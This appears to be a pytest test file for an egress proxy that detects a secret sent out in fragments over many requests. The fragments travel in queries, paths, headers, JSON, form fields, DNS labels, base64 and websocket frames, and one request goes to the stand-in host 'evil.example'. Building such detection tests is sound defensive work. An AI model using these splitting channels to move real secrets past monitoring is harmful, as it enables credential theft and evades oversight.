"""A secret that goes out in pieces over several requests, and ordinary pieces that are none."""

from __future__ import annotations

import base64
import hashlib
import json
import uuid
from collections.abc import Callable, Sequence

import pytest
from judging import JSON, KEY, make_judge, request, scanner

from mitmgate.judge.fragments import TRAIL, Carried, Trails, pieces_of
from mitmgate.judge.inputs import Input, MessageInput, RequestInput
from mitmgate.judge.judge import Judge
from mitmgate.judge.outcome import Outcome
from mitmgate.wire.http import Headers, RequestHead
from mitmgate.wire.surfaces import Text

RULES = """egress:
  rules:
    - {id: wild, host: ["*.wild.example", other.example], then: allow, websocket: text}
"""
SOCKET: Headers = (("upgrade", "websocket"), ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="))
CODED = base64.b64encode(f"key {KEY} end".encode()).decode()
PLAIN: Headers = (("content-type", "text/plain"),)


def judge_with() -> Judge:
    return make_judge(("egress:\n  rules:\n", RULES))


def cut(text: str, size: int) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


def get(target: str, host: str = "docs.example", agent: str = "agent") -> RequestInput:
    return request("GET", host, target, headers=(), agent=agent)


def in_query(piece: str) -> RequestInput:
    return get(f"/?d={piece}")


def in_body(piece: str) -> RequestInput:
    return request("POST", "docs.example", "/", piece.encode(), PLAIN)


def in_json(piece: str) -> RequestInput:
    body = json.dumps({"n": 1, "data": [piece]}).encode()
    return request("POST", "docs.example", "/", body, JSON)


def in_form(piece: str) -> RequestInput:
    kind = (("content-type", "application/x-www-form-urlencoded"),)
    return request("POST", "docs.example", "/", f"a=1&d={piece}".encode(), kind)


def in_header(piece: str) -> RequestInput:
    return request("GET", "docs.example", "/", headers=(("x-note", piece),))


def in_path(piece: str) -> RequestInput:
    return get(f"/items/{piece}")


def in_rpc(piece: str) -> RequestInput:
    body = json.dumps({"jsonrpc": "2.0", "id": 1, "method": "eth_x", "params": [piece]}).encode()
    return request("POST", "docs.example", "/", body, JSON)


WAYS: dict[str, Callable[[str], RequestInput]] = {
    "a query": in_query,
    "a percent-encoded query": lambda piece: in_query("".join(f"%{b:02x}" for b in piece.encode())),
    "the path": lambda piece: get(f"/pixel/{piece}.png"),
    "the path of a deep URL": lambda piece: get(f"/a/b/{piece}/c"),
    "a body": in_body,
    "a field of a form": in_form,
    "a string in JSON": in_json,
    "JSON-RPC that is not MCP": in_rpc,
    "a header": in_header,
    "labels": lambda piece: get("/", f"{piece.encode().hex()}.wild.example"),
}


def run(judge: Judge, given: Sequence[Input]) -> list[Outcome]:
    outcomes = [judge.conclude(judge.prepare(one), now=0.0) for one in given]
    assert None not in outcomes
    return [one for one in outcomes if one is not None]


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
@pytest.mark.parametrize("size", [10, 5])
def test_a_key_in_pieces_is_stopped_at_the_last_one(
    way: Callable[[str], RequestInput], size: int
) -> None:
    *first, last = run(judge_with(), [way(piece) for piece in cut(KEY, size)])
    assert {outcome.verdict.word for outcome in first} == {"allow"}
    assert (last.verdict.word, last.rule, last.code) == ("deny", "scan.secrets", "finding")
    assert [finding.pointer for finding in last.findings] == [TRAIL]


SPREADS: dict[str, list[RequestInput]] = {
    "letter by letter": [in_query(letter) for letter in KEY],
    "the last piece first": [in_query(piece) for piece in reversed(cut(KEY, 5))],
    "in fields of other names": [get(f"/?{'abcd'[n]}={p}") for n, p in enumerate(cut(KEY, 5))],
    "to several hosts": [
        get(f"/?d={piece}", host)
        for piece, host in zip(cut(KEY, 7), ("docs.example", "other.example", "a.wild.example"),
                               strict=True)],
    "to several names of one host": [
        get(f"/?d={piece}", f"{'abcd'[n]}.wild.example") for n, piece in enumerate(cut(KEY, 5))],
    "in base64": [in_query(piece) for piece in cut(CODED, 12)],
    "between the same pieces": [
        get(f"/same/words?session=abcdefgh&d={piece}&lang=english") for piece in cut(KEY, 5)],
    "with a number each": [get(f"/{n}?d={p}&n={n}") for n, p in enumerate(cut(KEY, 5))],
    "at the end of one body and the start of the next": [
        in_body("Some words before it. " * 50 + KEY[:9]), in_body(KEY[9:] + " and after." * 50)],
}  # fmt: skip


@pytest.mark.parametrize("given", SPREADS.values(), ids=SPREADS)
def test_a_key_is_stopped(given: list[RequestInput]) -> None:
    outcomes = run(judge_with(), given)
    assert [outcome.code for outcome in outcomes].count("finding") >= 1


def test_over_the_messages_of_a_websocket() -> None:
    judge = judge_with()
    opening = request("GET", "other.example", "/", headers=SOCKET)
    frames = [MessageInput("x", n, True, piece) for n, piece in enumerate(cut(KEY, 5))]
    outcomes = run(judge, [opening, *frames])
    assert [outcome.code for outcome in outcomes] == ["rule"] * 4 + ["finding"]


APART: dict[str, list[RequestInput]] = {
    "by several agents": [
        get(f"/?d={piece}", agent=f"agent-{n}") for n, piece in enumerate(cut(KEY, 10))],
    "the same value again and again": [in_query(KEY[:10])] * 5,
    "in an order that nobody puts together": [
        in_query(KEY[10:15]), in_query(KEY[:5]), in_query(KEY[15:])],
    "to a model API, whose requests repeat the conversation": [
        get(f"/?d={piece}", "api.openai.com") for piece in cut(KEY, 10)],
}  # fmt: skip


@pytest.mark.parametrize("given", APART.values(), ids=APART)
def test_what_makes_no_whole_passes(given: list[RequestInput]) -> None:
    assert {outcome.verdict.word for outcome in run(judge_with(), given)} == {"allow"}


def test_a_piece_that_was_denied_is_no_part_of_what_went_out() -> None:
    judge = judge_with()
    denied = get(f"/?d={KEY[:10]}", "evil.example")
    outcomes = run(judge, [denied, in_query(KEY[10:])])
    assert [outcome.verdict.word for outcome in outcomes] == ["deny", "allow"]


def test_a_key_that_was_let_through_whole_is_not_found_again_with_what_follows() -> None:
    judge = make_judge(("hold:", "scan: {secrets: {egress_request: log}}\nhold:"))
    key = scanner().sample_for("secret.xai-key", 1)  # of no fixed length: it seems to go on
    outcomes = run(judge, [in_query(key), in_query("Abcdefgh12345678"), in_query("words")])
    assert [[f.pointer for f in outcome.findings] for outcome in outcomes] == [["#url"], [], []]


def ordinary(number: int) -> str:
    digest = hashlib.sha256(b"%d" % number).digest()
    kinds = (
        str(uuid.UUID(bytes=digest[:16])),
        digest.hex(),
        digest.hex()[:40],
        base64.urlsafe_b64encode(digest).decode().rstrip("="),
        base64.b32encode(digest[:10]).decode(),
        f"build-{number}-{digest.hex()[:7]}",
        f"2026-11-{number % 28 + 1:02}T10:{number % 60:02}:00Z",
        ("search", "how to join two tables", "page two", "Report final v2")[number % 4],
        base64.b64encode(digest * 4).decode(),
        f"{digest[0]}.{digest[1]}.{digest[2]}",
    )
    return kinds[digest[3] % len(kinds)]


def test_ordinary_pieces_are_never_a_key() -> None:
    judge = judge_with()
    ways = [in_query, in_body, in_json, in_header, in_path]
    given = [ways[n % len(ways)](ordinary(n).replace(" ", "+")) for n in range(3000)]
    found = [
        finding for outcome in run(judge, given) for finding in outcome.findings
        if finding.pointer == TRAIL
    ]  # fmt: skip
    assert found == []


def test_nothing_that_is_kept_is_shown() -> None:
    judge = judge_with()
    prepared = judge.prepare(in_query(KEY[:10]))
    judge.conclude(prepared, now=0.0)
    shown = f"{vars(judge)} {judge._memory.trails} {judge._memory.get('x')}"
    assert KEY[:10] not in shown
    trails = judge._memory.trails
    assert KEY[:10] not in repr(list(trails._trails.values()))


def test_memory_is_bounded() -> None:
    trails = Trails()
    for number in range(2000):
        pieces = tuple((f"#query/{n}", f"{number}-{n}" * 500) for n in range(100))
        trails.learn(f"agent-{number}", f"{number}.example", pieces)
    kept = [one for trail in trails._trails.values() for one in trail.values()]
    assert len(trails._trails) <= 256
    assert max(len(trail) for trail in trails._trails.values()) <= 32
    assert max(len(one.before) + len(one.after) + len(one.last) for one in kept) <= 768


def test_pieces_are_bounded() -> None:
    target = "/" + "/".join("abc" * 9) + "?" + "&".join(f"f{n}=v" for n in range(500))
    headers = tuple((f"x-{n}", "v") for n in range(500))
    assert len(pieces_of(RequestHead("GET", "https", "a.example", 443, target, headers))) == 32


def test_the_work_for_one_request_is_bounded() -> None:
    seen: list[int] = []

    def scan(text: Text, _host: str) -> tuple[()]:
        seen[-1] += len(text.text)
        return ()

    trails = Trails()
    for number in range(3):
        pieces = tuple((f"#query/{n}", f"{number}-{n}" * 100) for n in range(32))
        seen.append(0)
        trails.findings("a", "a.example", Carried(pieces, scan))
        trails.learn("a", "a.example", pieces)
    assert 0 < max(seen) <= 8 * 1024
